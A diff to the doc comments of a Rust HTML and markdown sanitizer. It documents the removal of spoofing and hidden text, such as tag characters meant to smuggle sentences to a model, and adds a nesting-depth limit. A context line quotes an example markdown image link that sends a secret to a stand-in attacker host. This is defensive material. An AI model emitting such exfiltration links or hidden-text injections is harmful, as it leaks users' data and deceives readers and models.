@@ -13,8 +13,14 @@
 //! - **Stable output**: cleaning is repeated until it reaches a fixed point, so
 //!   `clean(clean(x)) == clean(x)` even for inputs where one ammonia pass is not
 //!   (nested links, ammonia issue #185).
-//! - **Text spoofing**: bidi overrides and zero-width spaces are removed (a link that
-//!   reads one way and goes another); emoji joiners, selectors and flag tags stay.
+//! - **Text spoofing and hidden text**: bidi overrides and zero-width spaces are removed
+//!   (a link that reads one way and goes another), and so are `dir` attributes on links
+//!   and inside them; joiners, variation selectors, direction marks and tag characters
+//!   stay only where a script or an emoji needs them, judged in context and by density
+//!   as the prompt sanitizer judges them, so an invisible sentence spelled in tag
+//!   characters or one selector per letter does not reach a crawler or a model.
+//! - **Bounded cost**: elements nested deeper than [`MAX_DEPTH`] lose their tags (their
+//!   text stays) before the parser sees them, so cleaning stays linear in the input.
 //! - **Markdown** ([`sanitize_markdown`]): rendered with `pulldown-cmark`, then cleaned
 //!   by the same policy, so `![x](https://attacker.example/?q=SECRET)` is stopped too.
 //! - **Content blocks** ([`HtmlSanitizer::clean_blocks`]): every HTML field of the CMS's
@@ -61,6 +67,7 @@
 //! trusted to stay on the site: serve user uploads from a separate origin.
 
 mod blocks;
+mod hidden;
 mod nesting;
 mod policy;
 mod urls;
